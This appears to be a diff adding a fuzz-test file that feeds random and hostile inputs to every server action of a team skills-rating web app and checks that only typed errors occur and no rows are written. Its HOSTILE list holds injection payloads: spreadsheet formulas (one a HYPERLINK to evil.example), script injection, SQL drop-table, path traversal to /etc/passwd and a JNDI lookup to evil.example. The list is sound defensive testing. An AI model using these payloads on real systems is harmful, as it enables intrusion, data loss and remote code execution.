@@ -1,0 +1,141 @@
+import { randomUUID } from "node:crypto";
+import fc from "fast-check";
+import { sql } from "drizzle-orm";
+import { beforeAll, expect, it } from "vitest";
+import { useDbHandle } from "@/db/client";
+import { seedDatabase } from "@/db/seed";
+import { demoTeamId, demoUserId } from "@/db/seed/demo";
+import { loadViewer, type Viewer } from "@/lib/auth/viewer";
+import { listAuditEvents } from "@/lib/data/audit-log";
+import { getPlanningDataset } from "@/lib/data/exports";
+import { createDraft, importFramework, moveDraftSkill, publishDraft, switchTeamVersion, updateDraftSkill } from "@/lib/data/framework-admin";
+import { getTeamHeatmap } from "@/lib/data/heatmap";
+import { importRatings } from "@/lib/data/import";
+import { confirmStaleRatings, saveSelfRating, validateRating } from "@/lib/data/ratings";
+import { updateOrgSetting } from "@/lib/data/settings";
+import { addTeamMember, archiveTeam, createTeam, removeTeamMember, updateTeam, updateTeamMember } from "@/lib/data/team-admin";
+import { setUserDisabled, setUserRole } from "@/lib/data/users";
+import { acceptPlanItem, archiveTarget, createTarget } from "@/lib/data/vision";
+import { closeCycle, openCycle } from "@/lib/data/cycles";
+import { AppError } from "@/lib/errors";
+import { describeOnEachEngine } from "./engines";
+import { rowsOf } from "./fingerprint";
+
+/*
+ * Bad input everywhere: every server action's and route's data-access entry
+ * point gets 1,000 arbitrary inputs (fast-check) as an admin, plus a fixed
+ * list of hostile strings in each string field of a valid input. Every call
+ * must end in a typed AppError or succeed; never an unexpected error. When
+ * every call was refused, the database must hold exactly the same rows.
+ */
+type Entry = { name: string; call: (v: Viewer, input: unknown) => Promise<unknown>; template: Record<string, unknown> };
+
+const HOSTILE = [
+  "=1+1",
+  '=HYPERLINK("http://evil.example","x")',
+  "+cmd|' /C calc'!A0",
+  "@SUM(A1)",
+  "\t=1",
+  "<script>alert(1)</script>",
+  '"><img src=x onerror=alert(1)>',
+  "'; drop table ratings; --",
+  "1 OR 1=1",
+  "\u0000\u0001",
+  "\ud800",
+  "🧠".repeat(5000),
+  "x".repeat(100_000),
+  "../../../../etc/passwd",
+  "${jndi:ldap://evil.example/a}",
+  "null",
+  "",
+];
+
+describeOnEachEngine("fuzzing every action and route input", ({ handle }) => {
+  let admin: Viewer;
+  const entries: Entry[] = [];
+  const totalRows = async () =>
+    rowsOf(
+      await handle().db.execute(sql`select (select count(*) from ratings) + (select count(*) from audit_events) + (select count(*) from teams) + (select count(*) from team_members) + (select count(*) from users) + (select count(*) from team_targets) + (select count(*) from plan_items) + (select count(*) from framework_versions) + (select count(*) from assessment_cycles) + (select count(*) from org_settings) as n`),
+    )[0]!.n;
+
+  beforeAll(async () => {
+    useDbHandle(handle());
+    await seedDatabase(handle().db, { demo: true });
+    admin = (await loadViewer(demoUserId("mei-ling.chen@acme.test")))!;
+    const team = demoTeamId("ml-platform");
+    const user = demoUserId("sofia.rossi@acme.test");
+    const fw = "00000000-0000-4000-8000-000000000000";
+    entries.push(
+      { name: "saveSelfRating", call: saveSelfRating, template: { skillKey: "x", value: 3, interest: 1, evidence: "note", requestId: randomUUID() } },
+      { name: "confirmStaleRatings", call: confirmStaleRatings, template: { skillKeys: ["x"] } },
+      { name: "validateRating", call: validateRating, template: { teamId: team, userId: user, skillKey: "x", proficiency: 2, comment: "c", requestId: randomUUID() } },
+      { name: "setUserRole", call: setUserRole, template: { userId: user, role: "member" } },
+      { name: "setUserDisabled", call: setUserDisabled, template: { userId: user, disabled: false } },
+      { name: "createTeam", call: createTeam, template: { name: "n", description: "d" } },
+      { name: "updateTeam", call: updateTeam, template: { teamId: team, name: "n", description: "d", lockVersion: 999 } },
+      { name: "archiveTeam", call: archiveTeam, template: { teamId: randomUUID() } },
+      { name: "addTeamMember", call: addTeamMember, template: { teamId: team, email: "a@b" } },
+      { name: "removeTeamMember", call: removeTeamMember, template: { teamId: team, userId: randomUUID() } },
+      { name: "updateTeamMember", call: updateTeamMember, template: { teamId: team, userId: user, currentLevelKey: "x" } },
+      { name: "updateOrgSetting", call: updateOrgSetting, template: { key: "membersSeeTeamHeatmap", value: "x" } },
+      { name: "createTarget", call: createTarget, template: { teamId: team, kind: "skill", key: "x", level: 3, headcount: 2, targetQuarter: "1999-Q1" } },
+      { name: "archiveTarget", call: archiveTarget, template: { teamId: team, targetId: randomUUID() } },
+      { name: "acceptPlanItem", call: acceptPlanItem, template: { teamId: team, targetId: randomUUID(), skillKey: "x" } },
+      { name: "openCycle", call: openCycle, template: { quarter: "x", startsOn: "x", endsOn: "x" } },
+      { name: "closeCycle", call: closeCycle, template: { cycleId: randomUUID() } },
+      { name: "importFramework", call: importFramework, template: { format: "markdown", content: "x", apply: true } },
+      { name: "createDraft", call: createDraft, template: { frameworkId: fw } },
+      { name: "updateDraftSkill", call: updateDraftSkill, template: { frameworkId: fw, skillKey: "x", nameEn: "n", nameZh: "n", descriptionEn: "", descriptionZh: "", categoryKey: "x", retired: false, lockVersion: 1 } },
+      { name: "moveDraftSkill", call: moveDraftSkill, template: { frameworkId: fw, skillKey: "x", direction: "up" } },
+      { name: "publishDraft", call: publishDraft, template: { frameworkId: fw } },
+      { name: "switchTeamVersion", call: switchTeamVersion, template: { teamId: team, versionId: randomUUID() } },
+      { name: "importRatings (route)", call: importRatings, template: { mode: "apply", filename: "x.csv", bytes: new TextEncoder().encode("email\nx@y\n") } },
+      { name: "getPlanningDataset (route)", call: (v, i) => getPlanningDataset(v, i, { locale: "en" }), template: { scope: "team", teamId: team, format: "json" } },
+      { name: "getTeamHeatmap", call: (v, i) => getTeamHeatmap(v, i, { locale: "en" }), template: { teamId: team, quarter: null } },
+      { name: "listAuditEvents (route)", call: (v, i) => listAuditEvents(v, i), template: { action: "x" } },
+    );
+  });
+
+  const expectTyped = (e: unknown, name: string) => {
+    if (!(e instanceof AppError)) throw new Error(`${name}: unexpected ${e instanceof Error ? `${e.name}: ${e.message}` : String(e)}`);
+  };
+
+  it("1,000 arbitrary inputs per entry point: only typed errors, and nothing written when refused", async () => {
+    let cases = 0;
+    for (const entry of entries) {
+      const before = await totalRows();
+      let succeeded = 0;
+      await fc.assert(
+        fc.asyncProperty(fc.oneof(fc.anything(), fc.object(), fc.dictionary(fc.constantFrom(...Object.keys(entry.template)), fc.anything())), async (input) => {
+          cases++;
+          try {
+            await entry.call(admin, input);
+            succeeded++;
+          } catch (e) {
+            expectTyped(e, entry.name);
+          }
+        }),
+        { numRuns: 1000 },
+      );
+      if (succeeded === 0) expect(await totalRows(), entry.name).toBe(before);
+    }
+    expect(cases).toBeGreaterThanOrEqual(1000 * entries.length);
+  }, 240_000);
+
+  it("hostile strings in every string field: typed errors only, and nothing written when refused", async () => {
+    for (const entry of entries) {
+      for (const [field, value] of Object.entries(entry.template)) {
+        if (typeof value !== "string") continue;
+        for (const hostile of HOSTILE) {
+          const before = await totalRows();
+          try {
+            await entry.call(admin, { ...entry.template, [field]: hostile });
+          } catch (e) {
+            expectTyped(e, `${entry.name}.${field}`);
+            expect(await totalRows(), `${entry.name}.${field} = ${JSON.stringify(hostile.slice(0, 30))}`).toBe(before);
+          }
+        }
+      }
+    }
+  }, 240_000);
+});
